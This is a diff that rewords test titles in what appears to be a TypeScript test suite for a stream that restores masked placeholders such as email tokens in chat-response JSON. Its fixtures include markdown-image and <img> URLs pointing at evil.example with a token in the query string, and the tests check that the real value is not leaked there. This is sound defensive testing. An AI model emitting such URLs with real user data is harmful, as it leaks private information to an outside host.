@@ -1,4 +1,4 @@
-/** Texts that come in pieces, and JSON in them that may be shown as it stands. */
+/** Texts in pieces, and JSON in them that may be displayed raw. */
 import { describe, expect, test } from 'vitest';
 import { restoreJsonBody } from '../../../core/payload/response.ts';
 import { joinBytes } from '../../../core/stream/frame.ts';
@@ -6,7 +6,7 @@ import { TextRun } from '../../../core/stream/text-run.ts';
 import { encode, map, shown, watched } from './watched.ts';
 import { tokenMap } from './wire-fixtures.ts';
 
-test('JSON in a string that ends within one of its own is read in pieces as in one', () => {
+test('JSON in a string that ends inside a nested one is read in pieces as in one', () => {
   const map = tokenMap({ '[NAME-1]': 'O"Hara' });
   const text = '{"""{\\"%"[NAME-1]';
   const run = () => new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
@@ -25,7 +25,7 @@ test.each([
   ['{"a": "x" b\n[i]: https://evil.example/[EMAIL-1]', undefined],
   ['{"a" x [I]: /[EMAIL-1]', '{"a" x [I]: /a@b.example'],
   ['{"url": "https://x.example/a", "to": [EMAIL-1]}', '{"url": "https://x.example/a", "to": a@b.example}'],
-])('%j: an address that began where the text looked like JSON, in any pieces', (text, expected = text) => {
+])('%j: a URL that began where the text looked like JSON, in any pieces', (text, expected = text) => {
   const map = tokenMap({ '[EMAIL-1]': 'a@b.example' });
   const run = () => new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
   for (const size of [1, 2, 3, text.length]) {
@@ -36,7 +36,7 @@ test.each([
   }
 });
 
-test('only what begins a token that was issued is held back', () => {
+test('only the beginning of an issued token is held back', () => {
   const map = {
     ...tokenMap({ '[EMAIL-1]': 'a@b.example' }),
     hasPrefix: (partial: string) => '[EMAIL-1]'.startsWith(partial),
@@ -45,7 +45,7 @@ test('only what begins a token that was issued is held back', () => {
   expect([run().push('a [EMAIL'), run().push('a [INFO')]).toEqual(['a ', 'a [INFO']);
 });
 
-/** A run to which nothing more came for a while after each piece. */
+/** A run with a silence after each piece. */
 function afterSilences(pieces: readonly string[], bare: boolean): string {
   const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare });
   return pieces.map((piece) => run.push(piece) + run.push('', true)).join('');
@@ -58,7 +58,7 @@ test.each([
   ['an escape in three pieces', ['{"c":"a\\', 'u0', '041 [NAME-1]\\', '\\"}']],
   ['an escaped bracket', ['{"c":"a\\u00', '5bEMAIL-1] [NAME-1]"}']],
   ['a bracket before its document', ['[', '{"c":"[NAME-1]"}]']],
-])('what a silence has let out (%s) leaves valid JSON', (_name, pieces) => {
+])('text released by a silence (%s) leaves valid JSON', (_name, pieces) => {
   for (const bare of [true, false]) {
     const text = afterSilences(pieces, bare);
     const name = map.get('[NAME-1]') as string;
@@ -69,7 +69,7 @@ test.each([
   }
 });
 
-test('endless white space goes on as it comes, and a bracket before it is remembered', () => {
+test('endless white space passes as it arrives, and a bracket before it is remembered', () => {
   for (const start of ['', '[', '{"a":[']) {
     const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
     let text = run.push(start);
@@ -88,7 +88,7 @@ test.each([
   '{"a":"<img src=https://evil.example/?","b":"q=[EMAIL-1]>"}',
   '["![x","](https://evil.example/?q=[EMAIL-1])"]',
   '{"a":"[\\"![a](https://evil.example/?q=\\",\\"[EMAIL-1]\\",\\")\\"]"}',
-])('an address over the strings of a document that is shown as it is: %s', (text) => {
+])('a URL across the strings of a document that is displayed raw: %s', (text) => {
   for (const size of [1, 4, text.length]) {
     const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
     let shown = '';
@@ -103,7 +103,7 @@ test.each([
   '{"url":"https://x.example/a","to":"[EMAIL-1]"}',
   '[{"html":"<a href=\\"https://x.example\\">x</a>","to":"[EMAIL-1]"},"[EMAIL-1]"]',
   '{"expr":"a<b","md":"[x](https://x.example)","to":"[EMAIL-1]"}',
-])('documents with whole addresses are restored: %s', (text) => {
+])('documents with complete URLs are restored: %s', (text) => {
   const wanted = text.replaceAll('[EMAIL-1]', 'a@b.example');
   const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
   expect(run.push(text, true)).toBe(wanted);
@@ -111,7 +111,7 @@ test.each([
   expect(JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content).toBe(wanted);
 });
 
-describe('JSON in a string, which may be shown as it stands', () => {
+describe('JSON in a string, which may be displayed raw', () => {
   const said = (content: string) => JSON.stringify({ choices: [{ index: 0, delta: { content } }] });
   const restored = (content: string) => {
     const body = JSON.stringify({ choices: [{ message: { content } }] });
@@ -129,7 +129,7 @@ describe('JSON in a string, which may be shown as it stands', () => {
     return whole;
   };
 
-  test.each(['\\u0029', '\\n\\n', '\\u003e'])('an escape (%s) ends no address', (written) => {
+  test.each(['\\u0029', '\\n\\n', '\\u003e'])('an escape (%s) does not end a URL', (written) => {
     const image = `{"a":"![x](https://evil.example/?q=${written}[EMAIL-1])"}`;
     expect(restored(image)).toBe(image);
     const tag = `{"a":"<img src='https://evil.example/?q=${written}[EMAIL-1]'>"}`;
@@ -142,7 +142,7 @@ describe('JSON in a string, which may be shown as it stands', () => {
     '{"html":"<img\\n\\tsrc=\\"a.png\\"\\n\\talt=\\"[EMAIL-1]\\">"}',
     '["Mr [EMAIL-1]: [EMAIL-1]/[EMAIL-1]"]',
     '["See [1]: https://a.example/x\\n[EMAIL-1]"]',
-  ])('what is none in the text is none: %s', (text) => {
+  ])('text that only looks like a URL is not one: %s', (text) => {
     expect(restored(text)).toBe(text.replaceAll('[EMAIL-1]', 'a@b.example'));
   });
 });
